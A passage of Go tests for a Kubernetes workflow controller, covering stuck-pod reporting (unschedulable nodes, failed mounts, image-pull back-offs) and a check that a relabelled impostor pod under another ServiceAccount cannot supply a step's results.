			t.Fatal(err)
		}
		pods[name] = pod
	}
	event := func(pod *corev1.Pod, kind, reason, note string) {
		t.Helper()
		now := metav1.Now()
		if err := env.Client.Create(ctx, &corev1.Event{
			ObjectMeta:     metav1.ObjectMeta{Namespace: ns, Name: pod.Name + "." + strings.ToLower(reason)},
			InvolvedObject: corev1.ObjectReference{APIVersion: "v1", Kind: "Pod", Namespace: ns, Name: pod.Name, UID: pod.UID},
			Reason:         reason, Message: note, Type: kind, Source: corev1.EventSource{Component: "kubelet", Host: testNode},
			FirstTimestamp: now, LastTimestamp: now, Count: 4,
		}); err != nil {
			t.Fatal(err)
		}
	}
	// As the kubelet records them.
	const noDriver = `MountVolume.SetUp failed for volume "spiffe-workload-api" : kubernetes.io/csi: mounter.SetUpAt failed to ` +
		`get CSI client: driver name csi.spiffe.io not found in the list of registered CSI drivers`
	event(pods["a"], corev1.EventTypeWarning, "FailedMount", noDriver)
	event(pods["b"], corev1.EventTypeNormal, "Pulling", `Pulling image "example.com/w:1"`)
	eventually(t, "step a to say why its pod does not start", func() error {
		st := stepOf(get(t, wf), "a")
		if st.Phase != custodyv1alpha1.StepRunning || st.Reason != custodyv1alpha1.StepReasonContainerCannotStart ||
			st.Message != "Attempt 1's pod "+pods["a"].Name+" is stuck (FailedMount): "+noDriver {
			return errorf("step a %s %s: %s", st.Phase, st.Reason, st.Message)
		}
		return nil
	})
	time.Sleep(2 * time.Second) // the controller has looked at b's Events more than once by now
	if st := stepOf(get(t, wf), "b"); st.Reason != custodyv1alpha1.StepReasonStarted {
		t.Errorf("step b, whose image is being pulled: %s: %s", st.Reason, st.Message)
	}
	if got := waitStepEvents(t, wf, "a", custodyv1alpha1.StepReasonContainerCannotStart); len(got) != 1 {
		t.Errorf("ContainerCannotStart Events of step a: %q, want one", got)
	}
	// The CSI driver is installed on the node: the container runs.
	pod := pods["a"]
	eventually(t, "pod status update", func() error {
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(pod), pod); err != nil {
			return err
		}
		pod.Status.Phase = corev1.PodRunning
		pod.Status.ContainerStatuses[0].State = corev1.ContainerState{Running: &corev1.ContainerStateRunning{StartedAt: metav1.Now()}}
		return env.Client.Status().Update(ctx, pod)
	})
	eventually(t, "step a to be Started again", func() error {
		if st := stepOf(get(t, wf), "a"); st.Reason != custodyv1alpha1.StepReasonStarted {
			return errorf("step a %s: %s", st.Reason, st.Message)
		}
		return nil
	})
}

// TestWorkflowReconciler_stuckPodSaysWhy plays the scheduler and the kubelet: a step pod that no
// node can take, then one whose image cannot be pulled, leaves the step Running but saying why
// (once per cause, not at every retry of the kubelet), and Started again once the container runs.
func TestWorkflowReconciler_stuckPodSaysWhy(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	ctx := ctxT(t)
	wf := apply(t, ns, `
metadata: {name: stuck}
spec:
  steps:
  - {name: train, image: example.com/train:1, nodeSelector: {pool: gpu}}`)
	job := jobOf(t, wf, "train", 1)
	labels := map[string]string{jobNameLabel: job.Name}
	for k, v := range job.Spec.Template.Labels {
		labels[k] = v
	}
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: job.Name + "-q8w2x", Namespace: ns, Labels: labels,
			OwnerReferences: []metav1.OwnerReference{*metav1.NewControllerRef(job, batchv1.SchemeGroupVersion.WithKind("Job"))}},
		Spec: *job.Spec.Template.Spec.DeepCopy(),
	}
	if err := env.Client.Create(ctx, pod); err != nil {
		t.Fatal(err)
	}
	setStatus := func(f func(*corev1.PodStatus)) {
		t.Helper()
		eventually(t, "pod status update", func() error {
			if err := env.Client.Get(ctx, client.ObjectKeyFromObject(pod), pod); err != nil {
				return err
			}
			f(&pod.Status)
			return env.Client.Status().Update(ctx, pod)
		})
	}
	waitReason := func(reason string, message ...string) custodyv1alpha1.StepStatus {
		t.Helper()
		var st custodyv1alpha1.StepStatus
		eventually(t, "step train "+reason, func() error {
			st = stepOf(get(t, wf), "train")
			if st.Phase != custodyv1alpha1.StepRunning || st.Reason != reason {
				return errorf("%s %s: %s", st.Phase, st.Reason, st.Message)
			}
			for _, m := range message {
				if !strings.Contains(st.Message, m) {
					return errorf("%s: %s, want %q in it", st.Reason, st.Message, m)
				}
			}
			return nil
		})
		return st
	}
	const noNode = "0/4 nodes are available: 4 node(s) didn't match Pod's node affinity/selector."
	setStatus(func(s *corev1.PodStatus) {
		s.Phase = corev1.PodPending
		s.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse,
			Reason: corev1.PodReasonUnschedulable, Message: noNode, LastTransitionTime: metav1.Now()}}
	})
	waitReason(custodyv1alpha1.StepReasonUnschedulable, noNode)
	// An alert can watch for it (no other story has an unschedulable step).
	if n := gauge(t, "custody_steps_blocked", "reason", custodyv1alpha1.StepReasonUnschedulable); n != 1 {
		t.Errorf(`custody_steps_blocked{reason="Unschedulable"} = %v, want 1`, n)
	}

	// The scheduler finds a node; the kubelet cannot pull the image, and backs off.
	if err := env.Client.SubResource("binding").Create(ctx, pod, &corev1.Binding{
		ObjectMeta: metav1.ObjectMeta{Name: pod.Name, Namespace: ns},
		Target:     corev1.ObjectReference{Kind: "Node", Name: testNode},
	}); err != nil {
		t.Fatal(err)
	}
	waiting := func(reason, message string) func(*corev1.PodStatus) {
		return func(s *corev1.PodStatus) {
			s.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionTrue, LastTransitionTime: metav1.Now()}}
			s.ContainerStatuses = []corev1.ContainerStatus{{Name: jobspec.ContainerName, Image: "example.com/train:1",
				State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: reason, Message: message}}}}
		}
	}
	const pull = `failed to pull and unpack image "example.com/train:1": 401 Unauthorized`
	setStatus(waiting("ErrImagePull", pull))
	first := waitReason(custodyv1alpha1.StepReasonContainerCannotStart, "(ImagePull)", pull)
	setStatus(waiting("ImagePullBackOff", `Back-off pulling image "example.com/train:1"`))
	time.Sleep(2 * time.Second) // what the controller would write, it would have by now
	if st := waitReason(custodyv1alpha1.StepReasonContainerCannotStart); st.Message != first.Message {
		t.Errorf("message changed with the kubelet's back-off: %q, was %q", st.Message, first.Message)
	}
	if got := waitStepEvents(t, wf, "train", custodyv1alpha1.StepReasonContainerCannotStart); len(got) != 1 {
		t.Errorf("ContainerCannotStart Events: %q, want one", got)
	}
	waitStepEvents(t, wf, "train", custodyv1alpha1.StepReasonUnschedulable)

	// The image is fixed in the registry: the container runs, the step is Started again.
	setStatus(func(s *corev1.PodStatus) {
		s.Phase = corev1.PodRunning
		s.ContainerStatuses[0].State = corev1.ContainerState{Running: &corev1.ContainerStateRunning{StartedAt: metav1.Now()}}
	})
	waitReason(custodyv1alpha1.StepReasonStarted)
	if n := gauge(t, "custody_steps_blocked", "reason", custodyv1alpha1.StepReasonContainerCannotStart); n != 0 {
		t.Errorf(`custody_steps_blocked{reason="ContainerCannotStart"} = %v once the container runs, want 0`, n)
	}
}

// TestWorkflowReconciler_podOfAnotherServiceAccountIsNotTheStep: labels and owner references can
// be written by whoever may update a pod, so a pod relabelled as a step's, controlled by its Job
// and newer than the real one, but running as another ServiceAccount, is not taken for the step's
// pod: its termination message does not become the step's results, nor its node the step's.
func TestWorkflowReconciler_podOfAnotherServiceAccountIsNotTheStep(t *testing.T) {
	t.Parallel()
	ns := setup(t)
	wf := apply(t, ns, `
metadata: {name: release}
spec:
  steps:
  - {name: build, image: example.com/b:1, results: [{name: digest}]}
  - {name: deploy, image: example.com/d:1, dependsOn: [build], args: ["$(steps.build.results.digest)"]}
`)
	job := jobOf(t, wf, "build", 1)
	runPod(t, job, 0, `{"digest":"sha256:real"}`)
	ctx := ctxT(t)
	if err := env.Client.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tools"}}); err != nil {
		t.Fatal(err)
	}
	time.Sleep(1100 * time.Millisecond) // creation times have a resolution of a second: the impostor is newer
	impostor := createPodOn(t, withServiceAccount(job, "tools"), "zzzzz", "node-of-the-impostor")
	impostor.Status = corev1.PodStatus{Phase: corev1.PodSucceeded, ContainerStatuses: []corev1.ContainerStatus{{
		Name: jobspec.ContainerName, Image: "example.com/b:1", State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{
			ExitCode: 0, Reason: "Completed", Message: `{"digest":"sha256:forged"}`, StartedAt: metav1.Now(), FinishedAt: metav1.Now()}},
	}}}
	if err := env.Client.Status().Update(ctx, impostor); err != nil {
		t.Fatal(err)
	}
	finishJob(t, job, true, "")
	wf = waitStep(t, wf, "deploy", custodyv1alpha1.StepRunning)
	st := stepOf(wf, "build")
	if len(st.Results) != 1 || st.Results[0].Value != "sha256:real" || st.NodeName == "node-of-the-impostor" {
		t.Errorf("build's results %+v on node %q, want the real pod's (sha256:real, on %s)", st.Results, st.NodeName, testNode)
	}
	if args := jobOf(t, wf, "deploy", 1).Spec.Template.Spec.Containers[0].Args; len(args) != 1 || args[0] != "sha256:real" {
		t.Errorf("deploy's args = %q, want the real digest", args)
	}
}

// withServiceAccount is the Job as if its pods ran as the ServiceAccount sa.
func withServiceAccount(job *batchv1.Job, sa string) *batchv1.Job {
	j := job.DeepCopy()
	j.Spec.Template.Spec.ServiceAccountName = sa
	return j
}
